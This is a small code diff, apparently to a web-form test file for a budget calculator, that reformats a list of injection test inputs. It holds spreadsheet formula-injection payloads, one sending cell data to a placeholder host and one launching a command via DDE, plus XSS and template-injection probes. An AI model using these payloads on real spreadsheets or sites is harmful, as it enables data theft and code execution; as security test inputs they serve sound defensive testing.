@@ -17,8 +17,12 @@ RULE = "xj_premium_budget"
 NAME = f"form[data-calculator={RULE}] [name='claims[0].enterprise']"
 AMOUNT = f"form[data-calculator={RULE}] [name='claims[0].amount_before_cap']"
 FORMULAS = [
-    "=HYPERLINK(\"http://x.invalid/?\"&A1,\"点\")", "+1+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0",
-]  # fmt: skip
+    '=HYPERLINK("http://x.invalid/?"&A1,"点")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "=cmd|' /C calc'!A0",
+]
 MARKUP = "\"'><img src=x onerror=pwned=1><script>pwned=1</script>{{7*7}}]]>"
 PATIENCE = 60000
 
